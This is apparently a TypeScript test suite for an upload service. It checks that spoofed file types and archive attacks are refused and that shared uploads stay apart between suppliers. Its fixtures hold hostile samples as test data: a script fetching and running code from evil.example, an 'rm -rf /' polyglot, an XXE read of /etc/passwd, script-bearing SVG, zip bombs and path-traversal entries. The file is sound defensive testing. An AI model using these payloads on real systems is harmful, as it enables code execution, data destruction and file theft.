import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { Role } from '../src/common/actor.js';
import * as f from '../src/evidence/upload/fixtures.test-support.js';
import { newBaseline } from './support/baselines.js';
import { download, newEvidence, quarantined, sha256, stored, upload } from './support/evidence.js';
import { newProduct, newSupplier, type TestOrg, type TestProduct } from './support/factories.js';
import { createTestApp, ok, type TestApp } from './support/test-app.js';

/*
 * Upload abuse (issue 8): spoofed types and archive attacks are refused with nothing kept, and
 * identical content from two suppliers is stored once while its ownership stays apart.
 */

const pad = (head: Buffer | string, size = 512): Buffer => {
  const bytes = Buffer.alloc(size);
  (typeof head === 'string' ? Buffer.from(head, 'latin1') : head).copy(bytes);
  return bytes;
};

function elf(): Buffer {
  return pad(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]));
}
function machO(): Buffer {
  return pad(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01, 0x03, 0x00, 0x00, 0x00]));
}
function gif(): Buffer {
  return pad(Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.from([1, 0, 1, 0, 0x80, 0, 0])]));
}
function webp(): Buffer {
  const bytes = pad('RIFF\x00\x00\x00\x00WEBPVP8 ');
  bytes.writeUInt32LE(bytes.length - 8, 4);
  return bytes;
}
function mp4(): Buffer {
  const bytes = pad('\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2');
  return bytes;
}
/** A JPEG with a ZIP (holding a script) appended: valid as both. */
async function jpegZipPolyglot(): Promise<Buffer> {
  return Buffer.concat([f.jpeg(), await f.zip([{ name: 'run.sh', content: '#!/bin/sh\nrm -rf /\n' }])]);
}

const SPOOFS: [string, string, () => Buffer | Promise<Buffer>][] = [
  ['an ELF executable', 'tool.pdf', elf],
  ['an ELF executable as text', 'notes.txt', elf],
  ['a PE executable', 'diagram.png', () => f.executable()],
  ['a Mach-O executable', 'report.pdf', machO],
  ['a shell script', 'policy.pdf', () => Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')],
  [
    'an HTML page',
    'screenshot.png',
    () => Buffer.from('<!doctype html><html><body onload="x()"></body></html>'),
  ],
  [
    'an SVG with script',
    'logo.png',
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  ],
  [
    'an XML file',
    'rutin.docx',
    () =>
      Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  ],
  ['JavaScript', 'summary.pdf', () => Buffer.from('require("child_process").exec("id");\n')],
  ['a plain ZIP renamed .docx', 'plan.docx', () => f.zip([{ name: 'readme.txt', content: 'not office' }])],
  ['a GIF', 'chart.png', gif],
  ['a WebP image', 'photo.jpg', webp],
  ['a TIFF image', 'scan.png', () => pad(Buffer.from([0x49, 0x49, 0x2a, 0x00, 0x08, 0x00, 0x00, 0x00]))],
  [
    'a BMP image',
    'scan.jpg',
    () => pad('BM\x00\x02\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00'),
  ],
  ['an RTF document', 'policy.pdf', () => Buffer.from('{\\rtf1\\ansi{\\object\\objemb}}')],
  ['a PostScript file', 'print.pdf', () => Buffer.from('%!PS-Adobe-3.0\n/Helvetica findfont\nshowpage\n')],
  ['an EPS file', 'figure.pdf', () => Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n')],
  ['an MP3 file', 'minutes.pdf', () => pad('ID3\x04\x00\x00\x00\x00\x00\x00')],
  ['an MP4 video', 'walkthrough.pdf', mp4],
  ['a PDF named .docx', 'policy.docx', () => f.pdf(['Policy'])],
  ['a PNG named .pdf', 'report.pdf', () => f.png()],
  ['a JPEG+ZIP polyglot', 'photo.jpg', jpegZipPolyglot],
];

/** Rewrites the central directory record of `entry`: its declared uncompressed size. */
function lieAboutSize(zipBytes: Buffer, entry: string, uncompressedSize: number): Buffer {
  const bytes = Buffer.from(zipBytes);
  for (let i = bytes.length - 46; i >= 0; i -= 1) {
    if (bytes.readUInt32LE(i) !== 0x02014b50) continue;
    const nameLength = bytes.readUInt16LE(i + 28);
    if (bytes.toString('utf8', i + 46, i + 46 + nameLength) === entry) {
      bytes.writeUInt32LE(uncompressedSize, i + 24);
      return bytes;
    }
  }
  throw new Error(`no central directory record for ${entry}`);
}

/** Renames an entry in both its local header and its central directory record (same length). */
function renameEntry(zipBytes: Buffer, from: string, to: string): Buffer {
  if (Buffer.byteLength(from) !== Buffer.byteLength(to)) throw new Error('names must have one length');
  const bytes = Buffer.from(zipBytes);
  let renamed = 0;
  for (let i = bytes.indexOf(from); i >= 0; i = bytes.indexOf(from, i + 1)) {
    bytes.write(to, i, 'utf8');
    renamed += 1;
  }
  if (renamed !== 2) throw new Error(`renamed ${renamed} occurrences of ${from}`);
  return bytes;
}

/** The DOCX parts, plus `extra`. */
const docxWith = (extra: f.ZipPart[]) => f.docx(['Säkerhetspolicy'], { extra });

const ARCHIVES: [string, () => Promise<Buffer>, RegExp][] = [
  ['a zip bomb by ratio', () => f.docxBomb(8), /compression ratio/],
  [
    'a zip bomb by total declared size',
    async () =>
      lieAboutSize(
        await docxWith([{ name: 'word/media/a.bin', content: Buffer.alloc(64) }]),
        'word/media/a.bin',
        0xfffffff0,
      ),
    /inflate to more than/,
  ],
  [
    'a zip bomb by entry count',
    () => docxWith(Array.from({ length: 2001 }, (_, i) => ({ name: `word/media/${i}.xml`, content: '' }))),
    /more than 2000 entries/,
  ],
  [
    'a nested zip bomb in a DOCX',
    async () => docxWith([{ name: 'word/embeddings/inner.zip', content: await f.docxBomb(8), store: true }]),
    /nested archive|compression ratio/,
  ],
  [
    'path traversal entry names',
    async () =>
      renameEntry(await docxWith([{ name: 'aa/aa/x.xml', content: '<x/>' }]), 'aa/aa/x.xml', '../../x.xml'),
    /damaged|not a readable/,
  ],
  [
    'a central directory lying about a part’s size',
    async () => lieAboutSize(await docxWith([]), 'word/document.xml', 10),
    /could not be checked|damaged/,
  ],
];

describe('upload abuse', () => {
  let t: TestApp;
  let supplier: TestOrg;
  let product: TestProduct;
  let requirementIds: string[];
  let editor: string;

  beforeAll(async () => {
    t = await createTestApp();
    supplier = await newSupplier(t);
    product = await newProduct(t, supplier);
    requirementIds = (await newBaseline(t, { publish: true })).requirements.map((r) => r.id);
    editor = await supplier.token(Role.EDITOR);
  });
  afterAll(() => t.close());

  async function expectRefused(fileName: string, bytes: Buffer): Promise<string> {
    const evidence = await newEvidence(t, supplier, product, requirementIds, { fileName });
    const response = await upload(t, evidence, bytes, editor);
    expect(response.status).toBe(422);
    const body = response.json<{ evidence: { status: string }; error: { message: string } }>();
    expect(body.evidence.status).toBe('REJECTED');
    expect(stored(t, sha256(bytes))).toBe(false);
    expect(quarantined(t, evidence)).toEqual([]);
    return body.error.message;
  }

  it('has 20 distinct spoofs', () => {
    expect(new Set(SPOOFS.map(([label]) => label)).size).toBeGreaterThanOrEqual(20);
  });

  it.each(SPOOFS)('refuses %s named %s, keeping nothing', async (_, fileName, build) => {
    await expectRefused(fileName, await build());
  });

  it.each(ARCHIVES)('refuses %s, keeping nothing', async (_, build, reason) => {
    expect(await expectRefused('attack.docx', await build())).toMatch(reason);
  });
});

describe('identical uploads from two suppliers', () => {
  // The 1,000 in all (about 110 s on a loaded 2-core machine, two requests each with the
  // PIN scan); ABUSE_UPLOADS_PER_SUPPLIER=100 makes a quick local run.
  const PER_SUPPLIER = Number(process.env.ABUSE_UPLOADS_PER_SUPPLIER ?? 500);
  // Uploads in flight per supplier: both together fill the service's pool of 10 connections, not more
  // (more only wait for a connection, and past 2 s get the retryable SERVICE_UNAVAILABLE).
  const BATCH = 5;
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  describe(`keeps ownership apart over ${2 * PER_SUPPLIER} uploads of the same bytes`, () => {
    const LIST = `query($id: ID!) { product(id: $id) {
      evidence(first: 100) { totalCount edges { node { id sha256 downloadUrl } } } } }`;
    const NODE = `query($id: ID!) { node(id: $id) { id } }`;
    type Listed = {
      totalCount: number;
      edges: { node: { id: string; sha256: string; downloadUrl: string } }[];
    };
    const bytes = f.png(`shared-${Date.now()}`);
    const hash = sha256(bytes);
    const ids: string[][] = [[], []];
    const listed: Listed[] = [];
    let owners: { org: TestOrg; product: TestProduct; editor: string; viewer: string }[];
    beforeAll(async () => {
      owners = await Promise.all(
        [0, 1].map(async () => {
          const org = await newSupplier(t);
          const product = await newProduct(t, org);
          return { org, product, editor: await org.token(Role.EDITOR), viewer: await org.token(Role.VIEWER) };
        }),
      );
    });

    it('accepts every upload of both suppliers, a few at a time', async () => {
      const requirementIds = (await newBaseline(t, { publish: true })).requirements.map((r) => r.id);
      for (let done = 0; done < PER_SUPPLIER; done += BATCH) {
        const size = Math.min(BATCH, PER_SUPPLIER - done);
        await Promise.all(
          owners.flatMap((owner, o) =>
            Array.from({ length: size }, async () => {
              const evidence = await newEvidence(t, owner.org, owner.product, requirementIds, {
                fileName: 'same.png',
                confidentiality: 'AGENCY_ONLY',
              });
              const response = await upload(t, evidence, bytes, owner.editor);
              expect(response.status).toBe(200);
              ids[o].push(evidence.id);
            }),
          ),
        );
      }
    }, 300_000);

    it('stores the bytes once, referenced by every row of both suppliers, nothing left in quarantine', async () => {
      expect(stored(t, hash)).toBe(true);
      expect(
        readdirSync(join(t.config.dataDir, 'evidence', 'sha256')).filter((n) => n === hash),
      ).toHaveLength(1);
      const [{ n }] = await t.dataSource.query<{ n: string }[]>(
        `SELECT count(*) AS n FROM evidence WHERE sha256 = $1 AND product_id = ANY($2::uuid[])`,
        [hash, owners.map((o) => o.product.uuid)],
      );
      expect(Number(n)).toBe(2 * PER_SUPPLIER);
      expect(quarantined(t, ...ids.flat().map((id) => ({ id })))).toEqual([]);
    });

    it('lists each supplier its own rows only, all of the same bytes', async () => {
      for (const [o, owner] of owners.entries()) {
        const mine = ok(
          await t.gql<{ product: { evidence: Listed } }>(LIST, { id: owner.product.id }, owner.viewer),
        ).product.evidence;
        expect(mine.totalCount).toBe(PER_SUPPLIER);
        for (const { node } of mine.edges) {
          expect(ids[o]).toContain(node.id);
          expect(ids[1 - o]).not.toContain(node.id);
          expect(node.sha256).toBe(hash);
        }
        listed[o] = mine;
      }
    });

    it('shows the other supplier none of it: not in its view of the product, not by id', async () => {
      for (const [o, owner] of owners.entries()) {
        const other = owners[1 - o];
        const theirs = await t.gql<{ product: { evidence: { totalCount: number } } | null }>(
          LIST,
          { id: owner.product.id },
          other.viewer,
        );
        expect(theirs.data?.product?.evidence.totalCount ?? 0).toBe(0);
        for (const id of ids[o].slice(0, 20)) {
          expect(ok(await t.gql<{ node: unknown }>(NODE, { id }, other.viewer)).node).toBeNull();
        }
      }
    });

    it('refuses a download URL issued to the owner to the other supplier, though the bytes are the same', async () => {
      for (const [o, owner] of owners.entries()) {
        const other = owners[1 - o];
        const url = listed[o].edges[0].node.downloadUrl;
        expect((await download(t, url, owner.viewer)).body.equals(bytes)).toBe(true);
        expect((await download(t, url, other.viewer)).status).toBe(404);
        expect((await download(t, url, other.editor)).status).toBe(404);
      }
    });
  });
});
